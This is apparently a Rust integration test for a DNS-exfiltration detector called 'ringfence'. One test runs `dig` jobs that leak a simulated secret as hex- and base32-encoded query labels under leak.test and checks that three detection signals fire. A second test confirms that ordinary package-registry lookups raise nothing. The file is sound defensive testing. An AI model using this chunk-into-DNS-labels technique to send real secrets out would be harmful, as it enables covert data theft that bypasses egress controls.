//! DNS exfiltration findings end to end: a job in a network namespace leaks a "secret" as
//! query names to its allowed resolver (real dnsmasq), and `ringfence exec` in audit mode
//! reports it as findings in the events file and the report; a job resolving ordinary names
//! reports none. Needs root; never skipped.

mod common;

use common::*;
use serde_json::Value;
use testbed::link_v4;

/// 40 base32 characters (25 bytes of a SHA-256): 4.31 bits per character.
const BASE32_CHUNK: &str = "wze3tyzvyn2nbjvaqovw74uyxhn52jxkz6lx7nkn";

/// Deterministic hex chunks, `2 * bytes` characters each.
fn hex_chunk(i: u64, bytes: usize) -> String {
    let mut x = i.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
    (0..bytes)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            format!("{:02x}", x as u8)
        })
        .collect()
}

/// A job that runs `dig` once per name, then exits 0.
fn dig_job(names: &[String]) -> Vec<String> {
    let script = names
        .iter()
        .map(|n| format!("dig +short +tries=1 +time=2 {n} A >/dev/null"))
        .collect::<Vec<_>>()
        .join("\n");
    vec!["sh".into(), "-c".into(), format!("{script}\nexit 0")]
}

fn findings(job: &Job) -> Vec<&Value> {
    job.events
        .iter()
        .filter(|e| e["type"] == "finding")
        .collect()
}

#[test]
fn leak_through_dns_is_reported() {
    let tb = testbed(&[DnsRecord::a("ok.test", link_v4(14))], &[]);
    // 60 distinct 32-character hex names (the secret, chunked), one 56-character label and
    // one base32 label: all three signals for leak.test.
    let mut names: Vec<String> = (0..60)
        .map(|i| format!("{}.leak.test", hex_chunk(i, 16)))
        .collect();
    names.push(format!("{}.leak.test", hex_chunk(99, 28)));
    names.push(format!("{BASE32_CHUNK}.1.leak.test"));
    names.push("ok.test".into());
    let report = tb.workdir().join("exfil-report.json");
    let report_arg = report.display().to_string();
    let job = exec(
        &tb,
        &[
            "--mode",
            "audit",
            "--allow",
            "ok.test:80",
            "--job",
            "t-exfil",
            "--format",
            "json",
            "--report",
            &report_arg,
        ],
        &as_strs(&dig_job(&names)),
    );
    assert_eq!(job.code(), Some(0), "{}", job.dump());
    // The names really went out (audit mode): the resolver is the attacker's channel.
    let log = tb.dns_log();
    let leaked = log
        .lines()
        .filter(|l| l.contains("query[A] ") && l.contains(".leak.test from "))
        .count();
    assert_eq!(leaked, 62, "{log}");

    let found = findings(&job);
    let mut kinds: Vec<(&str, &str)> = found
        .iter()
        .map(|f| (f["signal"].as_str().unwrap(), f["domain"].as_str().unwrap()))
        .collect();
    kinds.sort();
    // Once per (signal, domain), not once per query.
    assert_eq!(
        kinds,
        [
            ("high-entropy", "leak.test"),
            ("long-label", "leak.test"),
            ("many-names", "leak.test")
        ],
        "{}",
        job.dump()
    );
    for f in &found {
        assert_eq!(f["job"], "t-exfil");
        assert!(f["ts"].is_string() && f["step"].is_string(), "{f}");
        assert!(
            f["value"].as_f64().unwrap() > f["threshold"].as_f64().unwrap(),
            "{f}"
        );
        let example = f["example"].as_str().unwrap();
        assert!(names.iter().any(|n| n == example), "{f}");
    }
    let many = found.iter().find(|f| f["signal"] == "many-names").unwrap();
    assert_eq!(
        (many["value"].as_f64(), many["threshold"].as_f64()),
        (Some(51.0), Some(50.0))
    );
    let long = found.iter().find(|f| f["signal"] == "long-label").unwrap();
    assert_eq!(long["value"].as_f64(), Some(56.0));

    // The report carries the final counts: every leak.test lookup under many-names.
    let text = std::fs::read_to_string(&report).expect("report written");
    let report: Value = serde_json::from_str(&text).expect("report is JSON");
    let rows = report["findings"]
        .as_array()
        .unwrap_or_else(|| panic!("{text}"));
    assert_eq!(rows.len(), 3, "{text}");
    let many = rows.iter().find(|f| f["signal"] == "many-names").unwrap();
    assert_eq!(many["domain"], "leak.test");
    assert!(many["count"].as_u64().unwrap() >= 62, "{text}");
}

#[test]
fn ordinary_names_raise_no_findings() {
    let ip = link_v4(15);
    let ordinary = [
        "registry.npmjs.org",
        "objects.githubusercontent.com",
        "productionresultssa12.blob.core.windows.net",
        "github-production-release-asset-2e65be.s3.amazonaws.com",
        "files.pythonhosted.org",
    ];
    let mut records: Vec<DnsRecord> = ordinary.iter().map(|n| DnsRecord::a(n, ip)).collect();
    // A build farm: a few dozen hosts under one domain is still ordinary.
    let hosts: Vec<String> = (0..30).map(|i| format!("runner{i}.build.test")).collect();
    records.extend(hosts.iter().map(|n| DnsRecord::a(n, ip)));
    let tb = testbed(&records, &[]);
    // Each ordinary name resolved again and again, as package managers do.
    let mut names: Vec<String> = Vec::new();
    for _ in 0..5 {
        names.extend(ordinary.iter().map(|n| n.to_string()));
    }
    names.extend(hosts);
    let job = exec(
        &tb,
        &[
            "--mode",
            "audit",
            "--allow",
            "*.npmjs.org",
            "--format",
            "markdown",
        ],
        &as_strs(&dig_job(&names)),
    );
    assert_eq!(job.code(), Some(0), "{}", job.dump());
    // The job's lookups were seen (so "no findings" is not "nothing observed").
    assert!(
        !job.dns_events("productionresultssa12.blob.core.windows.net")
            .is_empty(),
        "{}",
        job.dump()
    );
    assert!(findings(&job).is_empty(), "{}", job.dump());
    assert!(!job.stderr.contains("Findings"), "{}", job.stderr);
}
